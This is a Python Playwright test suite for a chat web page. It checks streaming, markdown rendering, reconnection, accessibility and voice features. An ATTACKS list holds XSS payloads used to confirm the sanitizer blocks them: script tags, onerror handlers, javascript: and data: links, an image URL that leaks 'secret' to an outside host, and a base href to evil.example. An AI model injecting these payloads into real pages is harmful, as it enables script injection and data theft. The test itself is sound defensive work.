"""The chat page as a browser shows it, against a server that says what the test tells it to."""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.web_server import Json, Stage, decision, final

CHROMIUM = shutil.which("chromium")
PHONE = {"width": 390, "height": 844}
DESK = {"width": 1180, "height": 760}
READABLE = 4.5  # WCAG 2.2, 1.4.3: the contrast of text
LONGEST = 32_000
WAIT_MS = 8_000

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed: apt-get install chromium"),
]

Page = Any  # playwright's page
Open = Callable[..., Page]
WEB = Path(__file__).resolve().parent.parent / "web"

# What a model might write to break out of its answer; none of it may become an element that acts.
ATTACKS = (
    "<script>window.broken = 1</script>",
    "<img src=x onerror='window.broken = 1'>",
    "<svg onload='window.broken = 1'></svg>",
    "[click](javascript:window.broken=1)",
    "[click](JaVaScRiPt:window.broken=1)",
    "[click](java\tscript:window.broken=1)",
    "[click](data:text/html,<script>window.broken=1</script>)",
    "[click](vbscript:x) [click](file:///etc/passwd) [click](/relative) [click](//elsewhere.example)",
    "![x](https://elsewhere.example/steal.png?q=secret)",
    '[x](https://a.example/"onmouseover="window.broken=1)',
    "<https://a.example/<script>window.broken=1</script>>",
    "`<b>` **<i onclick=window.broken=1>x</i>**",
    "```html\n<script>window.broken = 1</script>\n```",
    '| <img src=x onerror=window.broken=1> | b |\n|---|---|\n| <a href="javascript:window.broken=1">x</a> | d |',
    "<iframe src='javascript:window.broken=1'></iframe><style>body{display:none}</style><base href='//evil.example'>",
)
# The elements that an answer may consist of, and no attribute that runs anything.
HARMLESS = """node => [...node.querySelectorAll("*")].filter(one =>
  !"P UL OL LI PRE CODE STRONG EM DEL A H4 H5 H6 HR BLOCKQUOTE TABLE THEAD TBODY TR TH TD DIV".split(" ").includes(one.tagName)
  || [...one.attributes].some(at => at.name.startsWith("on") || at.name === "style" || at.name === "src")
  || (one.tagName === "A" && !/^https?:/.test(one.href))).map(one => one.outerHTML)"""
# The contrast of every piece of visible text with the colour behind it, the worst first.
CONTRASTS = """() => {
  const channel = value => (value /= 255) <= 0.03928 ? value / 12.92 : ((value + 0.055) / 1.055) ** 2.4;
  const parts = colour => colour.match(/[\\d.]+/g).map(Number);
  const light = ([r, g, b]) => 0.2126 * channel(r) + 0.7152 * channel(g) + 0.0722 * channel(b);
  const ground = node => {
    for (; node; node = node.parentElement) {
      const [r, g, b, a = 1] = parts(getComputedStyle(node).backgroundColor);
      if (a === 1) return [r, g, b];
    }
    return [255, 255, 255];
  };
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const found = [];
  while (walker.nextNode()) {
    const node = walker.currentNode.parentElement;
    if (!walker.currentNode.data.trim() || !node.checkVisibility() || node.closest(".unseen, noscript, option")) continue;
    const [a, b] = [light(parts(getComputedStyle(node).color)), light(ground(node))].sort((x, y) => y - x);
    found.push([(a + 0.05) / (b + 0.05), walker.currentNode.data.trim()]);
  }
  return found.sort((x, y) => x[0] - y[0]);
}"""


@pytest.fixture(scope="module")
def served() -> Iterator[Stage]:
    stage = Stage()
    yield stage
    stage.close()


@pytest.fixture
def stage(served: Stage) -> Stage:
    served.reset()
    return served


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:  # Any: playwright's browser
    from playwright.sync_api import sync_playwright

    flags = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
    with sync_playwright() as driver:
        opened = driver.chromium.launch(executable_path=CHROMIUM, args=flags)
        yield opened
        opened.close()


class Watch:
    """What a page complained of, or asked for elsewhere."""

    def __init__(self, page: Page, url: str) -> None:
        self.faults: list[str] = []
        self._here = (url, url.replace("http", "ws"), "data:")
        page.set_default_timeout(WAIT_MS)
        page.on("console", lambda said: self.faults.append(said.text))
        page.on("pageerror", lambda error: self.faults.append(str(error)))
        page.on("request", lambda asked: self._asked(asked.url))
        page.on("websocket", lambda made: self._asked(made.url))

    def _asked(self, url: str) -> None:
        if not url.startswith(self._here):
            self.faults.append(url)


@pytest.fixture(scope="module")
def plain(browser: Any, served: Stage) -> tuple[Page, Watch]:
    """One page for most tests: a new process for each would take longer than the tests."""
    context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
    page = context.new_page()
    return page, Watch(page, served.url)


@pytest.fixture
def open_page(browser: Any, stage: Stage, plain: tuple[Page, Watch]) -> Iterator[Open]:
    """Opens the page, connected; afterwards, it must not have complained or asked for anything elsewhere.

    before: a script that runs before the page's own.   Nothing moves, unless a test asks for motion.
    """
    opened = [plain]

    def opening(
        *, before: str = "", connected: bool = True, viewport: dict[str, int] | None = None, scheme: str = "light"
    ) -> Page:
        page = plain[0]
        if before:
            page = browser.new_page()
            page.add_init_script(before)
            opened.append((page, Watch(page, stage.url)))
        page.set_viewport_size(viewport or DESK)
        page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
        page.goto(stage.url)
        if connected:
            page.wait_for_selector("[data-state=connected]")
        return page

    yield opening
    plain[0].evaluate("location.protocol === 'about:' || sessionStorage.clear()")
    plain[0].goto("about:blank")
    for page, _ in opened[1:]:
        page.close()
    faults = [fault for _, watch in opened for fault in watch.faults]
    plain[1].faults.clear()
    assert faults == []


def ask(page: Page, stage: Stage, text: str = "Moab or Page?") -> str:
    """Send a message by keyboard; the turn that the server is told."""
    page.locator("#box").fill(text)
    page.keyboard.press("Enter")
    turn = stage.hears("message")["turn"]
    assert isinstance(turn, str)
    return turn


def answered(page: Page, stage: Stage, text: str, *, decided: Json | None = None, **changed: Any) -> str:
    """A whole exchange; `changed` is of its final message."""
    turn = ask(page, stage)
    stage.say("decision", turn, **(decided or decision()))
    stage.say("final", turn, **final(text, **changed))
    page.locator(".answer[aria-busy=false]").last.wait_for()
    return turn


def says(page: Page, text: str, where: str = "#conversation") -> None:
    """Wait until the text is there to be seen."""
    page.locator(where).get_by_text(text).last.wait_for()


def until(page: Page, holds: str) -> None:
    """Wait until an expression is true in the page; playwright's own way needs `eval`, which the policy forbids."""
    page.evaluate(
        f"() => new Promise(done => {{ const look = () => ({holds}) ? done() : setTimeout(look, 10); look(); }})"
    )


def test_an_answer_streams_in_beside_its_decision(open_page: Open, stage: Stage) -> None:
    page = open_page()
    turn = ask(page, stage)
    says(page, "Weighing the question")
    stage.say("decision", turn, **decision())
    says(page, "trip is thinking")
    stage.say("token", turn, text="Go to **Mo")
    says(page, "Go to **Mo")
    assert page.locator(".answer").get_attribute("aria-busy") == "true"
    stage.say("token", turn, text="ab**.")
    page.locator(".answer-text strong", has_text="Moab").wait_for()
    stage.say("final", turn, **final("Go to **Moab**."))
    says(page, "$0.00432")
    ticket = page.get_by_role("group", name="Decision").inner_text()
    for shown in ("62 %", "Not simple, and this desk owns its subject", "1.9 s", "412 ms", "anthropic", "41 %"):
        assert shown in ticket
    assert page.locator(".by").inner_text().split("\n") == ["trip", "claude-sonnet-5-5"]
    assert page.locator(".answer-text").inner_text() == "Go to Moab."


def test_probabilities_stand_behind_a_disclosure_in_words_and_bars(open_page: Open, stage: Stage) -> None:
    page = open_page()
    answered(page, stage, "Moab.")
    domain = page.get_by_role("list", name="domain")
    assert domain.count() == 0
    page.locator("summary", has_text="Probabilities").press("Enter")
    assert domain.locator("li").all_inner_texts() == ["trip\n84 %", "budget\n11 %", "out of scope\n5 %"]
    widths = domain.locator(".bar i").evaluate_all("bars => bars.map(bar => bar.style.width)")
    assert widths == ["84%", "11%", "5%"]


def test_a_figure_that_is_not_known_is_never_shown_as_zero(open_page: Open, stage: Stage) -> None:
    page = open_page()
    unknown = decision(confidence=None, novelty=None, probabilities={}, why="asked for by name")
    answered(page, stage, "Moab.", decided=unknown, cost_usd=None, first_token_ms=None)
    ticket = page.get_by_role("group", name="Decision").inner_text()
    assert re.findall(r"^(Confidence|Cost|First word|Novelty)\s+(.+)$", ticket, re.MULTILINE) == [
        ("Confidence", "not known"),
        ("Cost", "not known"),
        ("First word", "not known"),
    ]
    assert "Asked for by name" in ticket
    assert "Probabilities" not in ticket


def test_every_module_is_fetched_at_once_not_one_after_the_other() -> None:
    preloaded = re.findall(r'rel="modulepreload" href="(.+?)"', (WEB / "index.html").read_text(encoding="utf-8"))
    assert sorted([*preloaded, "app.js"]) == sorted(module.name for module in WEB.glob("*.js"))


def test_markdown_becomes_the_elements_it_stands_for(open_page: Open, stage: Stage) -> None:
    page = open_page()
    text = (
        "# Plan\nOne *two* **three** `four` ~~five~~ snake_case_name 2 * 3 * 4\n\n1. a\n   - b\n2. c\n\n```py\nx = '<&>'\n```\n"
        "> quoted\n\n| h | i |\n|---|---|\n| j | k |\n\n[site](https://a.example/x_(y)) and https://b.example/z."
    )
    answered(page, stage, text)
    body = page.locator(".answer-text")
    assert body.locator("h4").inner_text() == "Plan"
    for tag, content in (
        ("em", "two"),
        ("strong", "three"),
        ("p code", "four"),
        ("del", "five"),
        ("ol > li > ul > li", "b"),
    ):
        assert body.locator(tag).all_inner_texts() == [content]
    assert "snake_case_name 2 * 3 * 4" in body.inner_text()
    assert body.locator("ol > li").count() == 2
    assert body.locator("pre code").inner_text() == "x = '<&>'"
    assert body.locator("blockquote").inner_text() == "quoted"
    assert body.locator("td").all_inner_texts() == ["j", "k"]
    links = body.locator("a").evaluate_all("links => links.map(link => [link.href, link.rel, link.target])")
    kept_out = "noopener noreferrer nofollow"
    assert links == [["https://a.example/x_(y)", kept_out, "_blank"], ["https://b.example/z", kept_out, "_blank"]]


def test_nothing_that_a_model_writes_becomes_code(open_page: Open, stage: Stage) -> None:
    page = open_page()
    turn = ask(page, stage, ATTACKS[0])
    stage.say("decision", turn, **decision(route=ATTACKS[1], why=ATTACKS[2]))
    stage.say("tool_call", turn, name=ATTACKS[1], arguments={"x": ATTACKS[0]})
    stage.say("tool_result", turn, name=ATTACKS[1], text=ATTACKS[2])
    for attack in ATTACKS:
        stage.say("token", turn, text=f"{attack}\n\n")
    stage.say("final", turn, **final("\n\n".join(ATTACKS), route=ATTACKS[1]))
    page.locator(".answer[aria-busy=false]").wait_for()
    assert page.locator(".answer-text").evaluate(HARMLESS) == []
    assert page.evaluate("window.broken") is None
    assert page.locator("#conversation :is(script, img, iframe, style, base, [onerror], [onload])").count() == 0
    assert page.locator(".answer-text").get_by_text(ATTACKS[0]).first.is_visible()
    assert page.locator(".answer-text pre").inner_text() == "<script>window.broken = 1</script>"


def test_no_text_makes_the_renderer_run_long(open_page: Open) -> None:
    page = open_page()
    slowest_ms = page.evaluate(
        """async () => {
          const { MarkdownView } = await import("/markdown.js");
          const starts = ["*", "**a", "_a ", "[", "![a](", "`", "``a`", "~~a", "> ", "- ", "  - a\\n", "| a\\n|-", "\\\\", "<http://", "#", "* * "];
          return Math.max(...starts.map(start => {
            const began = performance.now();
            new MarkdownView(document.createElement("div")).show(start.repeat(32000 / start.length));
            return performance.now() - began;
          }));
        }"""
    )
    assert slowest_ms < 3_000


def test_what_has_been_rendered_keeps_its_nodes_while_the_answer_grows(open_page: Open) -> None:
    kept = open_page().evaluate(
        """async () => {
          const { MarkdownView } = await import("/markdown.js");
          const box = document.createElement("div"), view = new MarkdownView(box);
          view.show("one\\n\\n- two");
          const [first] = box.children;
          view.show("one\\n\\n- two\\n- three\\n\\nfour");
          return [first === box.children[0], box.children.length, box.querySelectorAll("li").length];
        }"""
    )
    assert kept == [True, 3, 2]


def test_a_restart_throws_the_text_away_and_says_so(open_page: Open, stage: Stage) -> None:
    page = open_page()
    turn = ask(page, stage)
    stage.say("decision", turn, **decision())
    stage.say("token", turn, text="Half an answ")
    says(page, "Half an answ")
    stage.say("decision", turn, **decision(route="dashboard", restarted=True, why="timeout"))
    says(page, "trip did not finish (timeout); dashboard starts over, and the text so far was thrown away.")
    assert "Half" not in page.locator(".answer-text").inner_text()
    stage.say("token", turn, text="A whole one.")
    stage.say("final", turn, **final("A whole one.", route="dashboard"))
    page.locator(".answer[aria-busy=false]").wait_for()
    assert page.locator(".answer-text").inner_text() == "A whole one."
    assert page.locator(".by .route").inner_text() == "dashboard"


def test_tools_handovers_and_stand_ins_are_told(open_page: Open, stage: Stage) -> None:
    page = open_page()
    turn = ask(page, stage)
    stage.say("decision", turn, **decision())
    stage.say("tool_call", turn, name="weather_tool", arguments={"place": "Moab"})
    stage.say("tool_result", turn, name="weather_tool", text="61 F")
    stage.say("handoff", turn, **{"from": "trip", "to": "budget"})
    stage.say(
        "final", turn, **final("Clear.", route="chat", model="small", served_model="small-2", cached=True, fixed=True)
    )
    says(page, "Handed over from trip to budget.")
    says(page, "Decided for trip; chat answered in its place.")
    page.locator("summary", has_text="Used weather_tool").click()
    assert page.locator(".tools-used li").all_inner_texts() == [
        'weather_tool {"place":"Moab"}',
        "weather_tool returned\n61 F",
    ]
    assert page.locator(".by").inner_text().split("\n") == ["chat", "small", "From the cache", "Fixed message"]
    assert "small-2" in page.get_by_role("group", name="Decision").inner_text()


@pytest.mark.parametrize("way", ["Escape", "button"])
def test_a_running_answer_can_be_stopped_and_keeps_what_was_said(open_page: Open, stage: Stage, way: str) -> None:
    page = open_page()
    turn = ask(page, stage)
    stage.say("decision", turn, **decision(simulated=True))
    stage.say("token", turn, text="So far")
    says(page, "So far")
    if way == "Escape":
        page.keyboard.press("Escape")
    else:
        page.get_by_role("button", name="Stop").click()
    assert stage.hears("cancel")["turn"] == turn
    unknown = dict.fromkeys(("model", "served_model", "cost_usd", "latency_ms", "first_token_ms"))
    stage.say("final", turn, **final("", cancelled=True, simulated=False, **unknown))
    says(page, "Stopped")
    assert page.locator(".by").inner_text().split("\n") == ["trip", "claude-sonnet-5-5", "Simulated", "Stopped"]
    assert page.locator(".answer-text").inner_text() == "So far"
    assert page.get_by_role("button", name="Send").is_visible()
    assert page.evaluate("document.activeElement.id") == "box"


def test_a_fixed_message_needs_no_decision_before_it(open_page: Open, stage: Stage) -> None:
    page = open_page()
    turn = ask(page, stage)
    stage.say("final", turn, **final("Please try later.", fixed=True, route="chat", model=None, cost_usd=None))
    says(page, "Please try later.")
    assert page.locator(".by").inner_text().split("\n") == ["chat", "Fixed message"]
    ticket = page.get_by_role("group", name="Decision").inner_text()
    assert "not known" in ticket
    assert "Confidence" not in ticket


def test_feedback_goes_to_the_decision_and_can_change(open_page: Open, stage: Stage) -> None:
    page = open_page()
    answered(page, stage, "Moab.", decision_id="d-7")
    good, bad = page.get_by_role("button", name="Good answer"), page.get_by_role("button", name="Bad answer")
    for button, other, score in ((good, bad, 1), (bad, good, -1)):
        button.click()
        assert stage.hears("feedback") == {"type": "feedback", "decision_id": "d-7", "score": score}
        assert [button.get_attribute("aria-pressed"), other.get_attribute("aria-pressed")] == ["true", "false"]
    bad.click()
    assert stage.silent()


def test_a_broken_line_resumes_without_loss_or_repeats(open_page: Open, stage: Stage) -> None:
    page = open_page()
    turn = ask(page, stage)
    stage.say("decision", turn, **decision())
    last = stage.say("token", turn, text="one ")
    says(page, "one")
    stage.drop()
    page.locator("[role=status][data-state=waiting]").wait_for()
    stage.say("token", turn, text="two ")
    page.locator("[data-state=connected]").wait_for()
    assert stage.openings[1]["session"] == stage.openings[0]["session"]
    assert [opening["last_seq"] for opening in stage.openings] == [0, last["seq"]]
    stage.send(last)  # what was seen comes again
    stage.say("token", turn, text="three")
    says(page, "one two three")
    assert stage.silent()  # the question was not asked twice


def test_what_is_written_while_the_line_is_broken_is_sent_once_it_is_back(open_page: Open, stage: Stage) -> None:
    page = open_page()
    stage.drop()
    page.locator("[data-state=waiting]").wait_for()
    page.locator("#box").fill("Still there?")
    page.keyboard.press("Enter")
    assert stage.hears("message")["text"] == "Still there?"
    assert stage.silent()


def test_a_message_taken_back_before_it_could_go_is_never_sent(open_page: Open, stage: Stage) -> None:
    page = open_page()
    stage.drop(code=4429)  # too many connections: no reason to give the session up
    page.locator("[data-state=waiting]").wait_for()
    page.locator("#box").fill("Never mind")
    page.keyboard.press("Enter")
    page.keyboard.press("Escape")
    says(page, "Stopped")
    assert stage.hears("cancel")["type"] == "cancel"
    assert stage.silent()
    assert stage.openings[0]["session"] == stage.openings[1]["session"]


def test_a_question_said_again_after_a_break_may_turn_out_to_have_arrived(open_page: Open, stage: Stage) -> None:
    page = open_page()
    turn = ask(page, stage)
    stage.drop()
    assert stage.hears("message")["turn"] == turn
    stage.say("error", turn, code="too_many_turns", message="this one is running.")
    stage.say("decision", turn, **decision())
    stage.say("final", turn, **final("Moab."))
    page.get_by_role("button", name="Good answer").wait_for()
    assert page.locator(".failed").count() == 0


def test_a_server_that_has_forgotten_the_conversation_gets_a_new_one(open_page: Open, stage: Stage) -> None:
    page = open_page()
    turn = ask(page, stage)
    stage.say("decision", turn, **decision())
    says(page, "trip is thinking")
    stage.forget()
    stage.drop()
    says(page, "The server no longer has this conversation.")
    says(page, "The connection was lost for too long")
    page.locator("[data-state=connected]").wait_for()
    assert stage.openings[-1]["session"] != stage.openings[0]["session"]
    assert stage.openings[-1]["last_seq"] == 0
    page.get_by_role("button", name="Try again").click()
    assert stage.hears("message")["text"] == "Moab or Page?"


def test_an_error_says_why_and_the_question_can_be_asked_again(open_page: Open, stage: Stage) -> None:
    page = open_page()
    turn = ask(page, stage)
    stage.say("decision", turn, **decision())
    stage.say("token", turn, text="Half")
    stage.say("error", turn, code="overloaded", message="No model could answer.")
    says(page, "No model could answer.")
    assert page.locator(".answer-text").inner_text() == ""
    page.get_by_role("button", name="Try again").click()
    again = stage.hears("message")
    assert again["text"] == "Moab or Page?"
    assert again["turn"] != turn
    stage.say("decision", again["turn"], **decision())
    stage.say("token", turn, text="late words of the first try")
    stage.say("final", again["turn"], **final("Moab."))
    page.locator(".answer[aria-busy=false]").wait_for()
    assert page.locator(".answer-text").all_inner_texts() == ["Moab."]
    assert page.locator(".failed").count() == 0


def test_simulated_models_are_marked_at_the_answer_and_in_the_header(open_page: Open, stage: Stage) -> None:
    page = open_page(viewport=PHONE)
    header = page.locator("#simulated")
    assert not header.is_visible()
    turn = ask(page, stage)
    stage.say("decision", turn, **decision(simulated=True))
    says(page, "Simulated", ".by")
    assert header.inner_text() == "Simulated models"
    stage.say("final", turn, **final("word\n\n" * 60, simulated=True))
    page.locator(".answer[aria-busy=false]").wait_for()
    assert page.evaluate("scrollY") > 500
    box = header.bounding_box()
    assert box["y"] >= 0
    assert box["x"] + box["width"] <= PHONE["width"]
    answered(page, stage, "From a real one.")
    assert page.locator(".by .simulated").count() == 1
    assert header.inner_text() == "Some simulated"


def test_a_whole_conversation_needs_only_the_keyboard(open_page: Open, stage: Stage) -> None:
    page = open_page()
    keys = page.keyboard
    assert page.evaluate("document.activeElement.id") == "box"
    keys.type("first line")
    keys.press("Shift+Enter")
    keys.type("second line")
    keys.press("Enter")
    heard = stage.hears("message")
    assert (heard["text"], heard["route"]) == ("first line\nsecond line", "auto")
    stage.say("decision", heard["turn"], **decision())
    stage.say("final", heard["turn"], **final("Moab."))
    page.get_by_role("button", name="Good answer").wait_for()
    reached = []
    for _ in range(8):  # backwards from the box: the disclosure, then what is under the answer
        keys.press("Shift+Tab")
        reached.append(page.evaluate("document.activeElement.ariaLabel ?? document.activeElement.textContent.trim()"))
        if reached[-1] == "Good answer":
            break
    assert reached == ["Probabilities", "Read aloud", "Copy answer", "Bad answer", "Good answer"]
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    keys.press("Space")
    assert stage.hears("feedback")["score"] == 1


def test_enter_that_picks_a_word_in_an_input_method_does_not_send(open_page: Open, stage: Stage) -> None:
    page = open_page()
    page.locator("#box").fill("もあぶ")
    page.locator("#box").dispatch_event("keydown", {"key": "Enter", "isComposing": True})
    assert page.locator("#box").input_value() == "もあぶ"
    assert stage.silent()


def test_a_named_route_is_asked_for_by_name(open_page: Open, stage: Stage) -> None:
    page = open_page()
    page.locator("#route option[value=budget]").wait_for(state="attached")
    assert page.locator("#route option").all_inner_texts() == ["auto", "chat", "trip", "budget"]
    page.get_by_label("Route").select_option("budget")
    page.locator("#box").fill("balance")
    page.keyboard.press("Enter")
    assert stage.hears("message")["route"] == "budget"


def test_the_counter_counts_characters_near_the_limit_and_stops_what_is_too_long(open_page: Open, stage: Stage) -> None:
    page = open_page()
    box, limit = page.locator("#box"), page.locator("#limit")
    box.fill("a" * 20_000)
    assert not limit.is_visible()
    box.fill(
        "a" * (LONGEST - 10) + "\N{ALIEN MONSTER}" * 5
    )  # five characters, as the server counts them; ten in UTF-16
    assert limit.inner_text() == "5 left"
    box.fill("a" * (LONGEST + 3))
    assert limit.inner_text() == "3 too many"
    page.keyboard.press("Enter")
    says(page, "The message is 3 characters too long.", "footer")
    assert stage.silent()


def test_a_refused_socket_asks_for_a_key_that_stays_in_the_tab(open_page: Open, stage: Stage) -> None:
    stage.key = "s3cret.key"
    page = open_page(connected=False)
    dialog = page.get_by_role("dialog", name="This server asks for a key")
    dialog.wait_for()
    assert page.evaluate("document.activeElement.id") == "key"
    for wrong, told in (("two words", "no spaces"), ("wrong", "does not know that key")):
        page.keyboard.type(wrong)
        page.keyboard.press("Enter")
        says(page, told, "dialog")
        page.locator("#key").fill("")
    page.keyboard.type(stage.key)
    page.keyboard.press("Enter")
    page.locator("[data-state=connected]").wait_for()
    assert stage.openings[0]["subprotocols"] == ["weighbridge"]
    assert stage.openings[-1]["subprotocols"] == ["weighbridge", "key.s3cret.key"]
    assert not dialog.is_visible()
    answered(page, stage, "Moab.")
    stored = page.evaluate("[{...sessionStorage}, {...localStorage}, document.cookie, location.href]")
    assert stored == [{"weighbridge-key": stage.key}, {}, "", stage.url]


def test_the_key_dialog_can_be_put_off_and_opened_again(open_page: Open, stage: Stage) -> None:
    stage.key = "s3cret"
    page = open_page(connected=False)
    page.get_by_role("dialog").wait_for()
    page.keyboard.press("Escape")
    says(page, "Key needed", "header")
    assert page.evaluate("document.activeElement.id") == "enter-key"
    page.keyboard.press("Enter")
    page.get_by_role("dialog").wait_for()


def test_a_new_conversation_leaves_nothing_of_the_old(open_page: Open, stage: Stage) -> None:
    page = open_page()
    answered(page, stage, "Moab.", simulated=True)
    turn = ask(page, stage)
    page.get_by_role("button", name="New conversation").click()
    assert stage.hears("cancel")["turn"] == turn
    page.locator("[data-state=connected]").wait_for()
    assert page.locator(".exchange").count() == 0
    assert not page.locator("#simulated").is_visible()
    assert page.get_by_role("heading", name="Ask, and see where it goes").is_visible()
    page.get_by_role("button", name="How much did we spend on diesel in March?").click()
    assert stage.hears("message")["text"] == "How much did we spend on diesel in March?"
    assert stage.openings[-1]["session"] != stage.openings[0]["session"]


def test_the_page_fits_a_phone_whatever_an_answer_holds(open_page: Open, stage: Stage) -> None:
    page = open_page(viewport=PHONE)
    long = "x" * 400
    answered(
        page, stage, f"{long}\n\n```\n{long}\n```\n\n|{'a wide cell|' * 20}\n|{'---|' * 20}\n\n- {long}", simulated=True
    )
    page.locator("summary", has_text="Probabilities").click()
    turn = ask(page, stage, long)
    stage.say("decision", turn, **decision(model=long[:80], why=long, simulated=True))
    stage.say("error", turn, code="overloaded", message=long)
    page.get_by_role("button", name="Try again").wait_for()
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
    cut = "nodes => nodes.filter(node => node.getBoundingClientRect().right > 390).map(node => node.id)"
    assert page.locator("header > *, footer button, .exchange > *").evaluate_all(cut) == []
    stage.key = "x"
    stage.drop()
    page.get_by_role("dialog").wait_for()
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_all_text_is_readable_by_day_and_by_night(open_page: Open, stage: Stage, scheme: str) -> None:
    page = open_page(scheme=scheme)
    ground = [
        int(part) for part in page.evaluate("getComputedStyle(document.body).backgroundColor").strip("rgb()").split(",")
    ]
    assert sum(ground) > 600 if scheme == "light" else sum(ground) < 150
    assert page.evaluate(CONTRASTS)[0][0] >= READABLE
    answered(
        page,
        stage,
        "**Moab**, [see](https://a.example) `code`\n\n> quote\n\n```\npre\n```",
        simulated=True,
        cached=True,
        route="chat",
    )
    page.locator("summary", has_text="Probabilities").click()
    turn = ask(page, stage)
    stage.say("decision", turn, **decision(restarted=True))
    stage.say("error", turn, code="overloaded", message="No model could answer.")
    page.get_by_role("button", name="Try again").wait_for()
    worst, text = page.evaluate(CONTRASTS)[0]
    assert worst >= READABLE, text


def test_nothing_moves_for_who_asks_for_less_motion(open_page: Open, stage: Stage) -> None:
    page = open_page()
    turn = ask(page, stage)
    stage.say("decision", turn, **decision())
    stage.say("token", turn, text="Moab")
    says(page, "Moab")
    moving = "document.getAnimations().filter(one => one.effect.getTiming().iterations === Infinity).length"
    assert page.evaluate(moving) == 0
    page.emulate_media(reduced_motion="no-preference")
    assert page.evaluate(moving) > 0


def test_a_screen_reader_hears_the_whole_answer_once_and_every_control_has_a_name(
    open_page: Open, stage: Stage
) -> None:
    page = open_page()
    live = page.locator("[aria-live=polite]")
    turn = ask(page, stage)
    stage.say("decision", turn, **decision(simulated=True))
    stage.say("token", turn, text="Go to ")
    says(page, "Go to")
    assert live.inner_text() == ""
    stage.say("final", turn, **final("Go to **Moab**.", simulated=True))
    live.get_by_text("Simulated answer from trip: Go to Moab.").wait_for()
    assert page.get_by_role("status").inner_text() == "Connected"
    assert page.locator("html").get_attribute("lang") == "en"
    assert page.get_by_role("heading", level=1).inner_text() == "Weighbridge"
    assert page.get_by_role("article", name="Exchange 1").count() == 1
    snapshot = page.locator("body").aria_snapshot()
    assert re.findall(r"^\s*- (?:button|textbox|combobox|link)\s*$", snapshot, re.MULTILINE) == []
    for name in ("Send", "New conversation", "Speak your message", "Read answers aloud"):
        assert page.get_by_role("button", name=name).count() == 1
    assert page.get_by_role("textbox", name="Your message").count() == 1


def test_what_the_reader_looks_back_at_stays_put_while_the_answer_grows(open_page: Open, stage: Stage) -> None:
    page = open_page()
    turn = ask(page, stage)
    stage.say("decision", turn, **decision())
    stage.say("token", turn, text="word\n\n" * 60)
    until(page, "scrollY > 500")
    page.evaluate("scrollTo(0, 100)")
    page.get_by_role("button", name="Jump to the latest").wait_for()
    stage.say("token", turn, text="and more\n\n" * 20)
    says(page, "and more")
    assert page.evaluate("scrollY") == 100
    page.get_by_role("button", name="Jump to the latest").click()
    until(page, "innerHeight + scrollY >= document.documentElement.scrollHeight - 2")


def test_voice_is_hidden_where_the_browser_has_none(open_page: Open, stage: Stage) -> None:
    without = (
        "for (const name of ['SpeechRecognition', 'webkitSpeechRecognition', 'speechSynthesis']) delete window[name];"
    )
    page = open_page(before=without)
    answered(page, stage, "Moab.")
    assert not page.locator("#listen").is_visible()
    assert not page.locator("#speak-all").is_visible()
    assert page.get_by_role("button", name="Read aloud").count() == 0


def test_speech_becomes_text_and_text_becomes_speech(open_page: Open, stage: Stage) -> None:
    scripted = """
      window.spoken = [];
      Object.defineProperty(window, "speechSynthesis", { value: { speak: (one) => spoken.push(one), cancel: () => spoken.push(null) } });
      window.SpeechRecognition = class {
        start() { window.ear = this; }
        stop() { this.onend(); }
      };
    """
    page = open_page(before=scripted)
    page.locator("#box").fill("And")
    listen = page.get_by_role("button", name="Speak your message")
    listen.click()
    assert listen.get_attribute("aria-pressed") == "true"
    page.evaluate("ear.onresult({ results: [[{ transcript: 'what about' }], [{ transcript: 'Page?' }]] })")
    assert page.locator("#box").input_value() == "And what about Page?"
    page.keyboard.press("Escape")
    assert listen.get_attribute("aria-pressed") == "false"
    answered(page, stage, "Go to **Moab**.")
    aloud = page.get_by_role("button", name="Read aloud")
    aloud.click()
    assert page.evaluate("spoken.map(one => one && one.text)") == ["Go to Moab."]
    assert aloud.get_attribute("aria-pressed") == "true"
    page.keyboard.press("Escape")
    assert page.evaluate("spoken.at(-1)") is None
    assert aloud.get_attribute("aria-pressed") == "false"


def test_an_answer_can_be_copied_as_it_was_written(open_page: Open, stage: Stage) -> None:
    page = open_page()
    answered(page, stage, "Go to **Moab**.")
    page.get_by_role("button", name="Copy answer").click()
    page.locator("[aria-live=polite]").get_by_text("Copied.").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == "Go to **Moab**."
